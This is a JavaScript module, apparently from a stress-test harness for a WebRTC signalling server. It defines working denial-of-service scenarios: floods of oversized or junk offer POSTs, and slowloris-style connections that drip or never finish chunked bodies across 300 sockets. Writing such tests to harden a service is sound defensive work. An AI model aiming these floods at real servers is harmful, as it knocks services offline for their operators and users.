import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { ATTACKER_ADDRESS, offerOf, openSession, post } from "../peer.mjs";
import { SESSION_BYTES } from "./dtls.mjs";

const LARGE_OFFER_BYTES = 57_000;
const SLOW_POSTS = 300;

/** An attack by posts, some at a time. `next(url)` makes one, and resolves when it is answered. */
function posts(name, what, bytes, next) {
  return {
    name,
    what,
    group: "address",
    async prepare({ url, rate }) {
      const one = async () => {
        while (!rate.isOver) if (await rate.take(bytes)) await next(url);
      };
      return { run: async () => await Promise.all(Array.from({ length: 8 }, one)) };
    },
  };
}

/** A good offer, filled up with what nobody reads; one character that is not ASCII makes text of it twice as large. */
function largeOffer() {
  const extra = Array.from({ length: 7 }, (_, i) => `a=x${i}:${"y".repeat(8_000)}`);
  const offer = offerOf({ ufrag: "u".repeat(20), pwd: "p".repeat(30), extra: [...extra, "a=x:\u{1f600}"] });
  return offer.slice(0, LARGE_OFFER_BYTES + 1_000);
}

/** Connections that send a body a byte at a time, or without end. */
function slowPosts(name, what, bodyBytes, everyMs) {
  return {
    name,
    what,
    group: "address",
    async prepare({ url, rate }) {
      const { port, hostname } = new URL(url);
      const open = () => {
        const socket = connect({ port: Number(port), host: hostname, localAddress: ATTACKER_ADDRESS });
        socket.on("error", () => {});
        socket.write(`POST / HTTP/1.1\r\nHost: ${hostname}\r\nTransfer-Encoding: chunked\r\n\r\n`);
        return socket;
      };
      const sockets = Array.from({ length: SLOW_POSTS }, open);
      await sleep(100);
      const piece = Buffer.from(`${bodyBytes.toString(16)}\r\n${"a".repeat(bodyBytes)}\r\n`);
      return {
        async run() {
          for (let index = 0; !rate.isOver; index++) {
            const at = index % SLOW_POSTS;
            if (sockets[at].destroyed) sockets[at] = open();
            if (await rate.take(piece.length)) sockets[at].write(piece);
            await sleep(everyMs);
          }
          for (const socket of sockets) socket.destroy();
        },
      };
    },
  };
}

export const signallingAttacks = [
  posts("pending-sessions", "offers of 57 KB, for sessions that nobody comes for", LARGE_OFFER_BYTES, (url) =>
    post(url, largeOffer()),
  ),
  posts("offers", "offers of a browser's size, as many as fit", SESSION_BYTES, (url) => openSession(url)),
  posts("bad-offers", "bodies of 60 KB that are no offer", 60_000, (url) => post(url, "m=\r\n".repeat(15_000))),
  slowPosts("slow-posts", "300 bodies that come byte by byte", 1, 4),
  slowPosts("endless-posts", "300 bodies without end", 4_000, 0),
];
